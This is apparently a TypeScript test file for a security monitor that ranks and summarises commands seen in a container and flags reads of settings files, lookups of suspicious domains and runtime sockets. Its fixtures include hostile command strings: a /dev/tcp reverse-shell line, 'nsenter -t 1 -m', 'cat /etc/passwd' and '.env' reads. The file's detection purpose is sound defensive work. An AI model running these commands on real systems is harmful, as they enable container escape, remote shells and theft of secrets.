/** Tests of `choose-commands.ts` and `read-targets.ts`: what a sentence shows of many commands. */
import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { chooseCommands, shapeOf } from "./choose-commands.ts";
import {
  isBelow,
  isRuntimeSocket,
  namesLookedUpBy,
  parentNames,
  settingsReadBy,
} from "./read-targets.ts";

const plain = (...texts: readonly string[]) => texts.map((text) => ({ text, rank: -1 }));

test("the gravest are shown in order of time, helpers last, the rest is counted", () => {
  const commands = [
    ...plain("sleep 5", "tool info", "other"),
    { text: "tool drop", rank: 3 },
    { text: "id", rank: 0 },
  ];
  const { shown, leftCount } = chooseCommands(commands, 3);
  assert.deepEqual(
    shown.map(({ text }) => text),
    ["tool info", "tool drop", "id"],
  );
  assert.equal(leftCount, 2);
});

test("commands that differ in a file alone are one, but only where they are many", () => {
  const many = ["a", "b", "c", "d"].map((one) => `openssl enc -in ./${one}.txt`);
  const { shown, leftCount } = chooseCommands(plain(...many, "cat /etc/passwd", "cat /x/y"), 4);
  assert.deepEqual(
    shown.map(({ count }) => count),
    [4, 1, 1],
  );
  assert.equal(leftCount, 0);
  assert.notEqual(shapeOf("find a -delete"), shapeOf("find a -print"));
});

test("a shell that only wraps is left out, one that rules find graver is not", () => {
  const wrapped = plain('sh -c "id; uname -a"', "id", 'sh -c "aside"');
  const texts = (commands: Parameters<typeof chooseCommands>[0]) =>
    chooseCommands(commands, 9).shown.map(({ text }) => text);
  assert.deepEqual(texts(wrapped), ["id", 'sh -c "aside"']);
  const grave = [{ text: 'sh -c "id >& /dev/tcp/x/1"', rank: 3 }, ...plain("id")];
  assert.equal(texts(grave).length, 2);
});

test("many idle commands do not hide one that rules speak of", () => {
  const idle = plain(...Array.from({ length: 300 }, (_, at) => `true x${String(at)}y`));
  const { shown } = chooseCommands([...idle, { text: "nsenter -t 1 -m", rank: 4 }], 3);
  assert.ok(shown.some(({ text }) => text === "nsenter -t 1 -m"));
});

test("nothing is lost between what is shown and what is counted", () => {
  const command = fc.record({
    text: fc.string({ maxLength: 20 }),
    rank: fc.integer({ min: -1, max: 4 }),
  });
  fc.assert(
    fc.property(fc.array(command, { maxLength: 40 }), (commands) => {
      const { shown, leftCount } = chooseCommands(commands, 4);
      const told = shown.reduce((sum, { count }) => sum + count, 0);
      assert.ok(shown.length <= 4 && leftCount >= 0 && told + leftCount <= commands.length);
    }),
  );
});

test("settings are read by what shows files, and names of the cluster are no domains", () => {
  const cat = (line: string) => settingsReadBy({ binary: "/bin/cat", arguments: line });
  assert.deepEqual(cat("/app/config.json /etc/hosts /usr/share/x.conf -n /srv/.env"), [
    "/app/config.json",
    "/srv/.env",
  ]);
  assert.deepEqual(settingsReadBy({ binary: "/bin/rm", arguments: "/app/config.json" }), []);
  const dig = { binary: "/usr/bin/dig", arguments: "api.shop.svc.cluster.local Evil.Example. txt" };
  assert.deepEqual(namesLookedUpBy(dig), ["evil.example"]);
  assert.deepEqual(parentNames(["a.b.example", "c.d.example"]), ["a.b.example", "c.d.example"]);
  assert.deepEqual(parentNames(["1.p.t.example", "2.q.t.example", "3.r.t.example"]), ["t.example"]);
  // What strangers share is nothing to refuse.
  for (const end of ["co.uk", "amazonaws.com"]) {
    const names = ["a", "b", "c"].map((one) => `${one}.${end}`);
    assert.deepEqual(parentNames(names), names);
    assert.deepEqual(
      parentNames(names.map((name) => `x.${name}`).concat(`y.a.${end}`, `z.a.${end}`)),
      [`a.${end}`, `x.b.${end}`, `x.c.${end}`],
    );
  }
  assert.ok(isBelow("a.evil.com", "evil.com") && !isBelow("notevil.com", "evil.com"));
  assert.ok(isRuntimeSocket("/host/run/containerd/containerd.sock"));
  assert.ok(!isRuntimeSocket("/run/postgresql/.s.PGSQL.5432"));
});
